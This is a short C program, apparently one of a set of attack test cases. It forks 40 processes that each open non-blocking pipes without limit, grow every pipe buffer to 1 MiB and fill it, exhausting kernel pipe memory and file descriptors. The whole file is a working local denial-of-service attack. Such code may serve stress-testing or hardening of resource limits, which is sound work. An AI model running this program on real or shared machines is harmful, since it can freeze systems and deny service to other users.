/* Pipes made as big as they may be, and filled, by many processes. */
#include "../attack.h"
int main(void)
{
    static char block[1 << 20];
    for (int i = 0; i < 40; i++) if (fork() == 0) { int p[2]; while (pipe2(p, O_NONBLOCK) == 0) { fcntl(p[1], F_SETPIPE_SZ, 1 << 20); while (write(p[1], block, sizeof block) > 0) ; } pause(); }
    sleep(3); return 0;
}
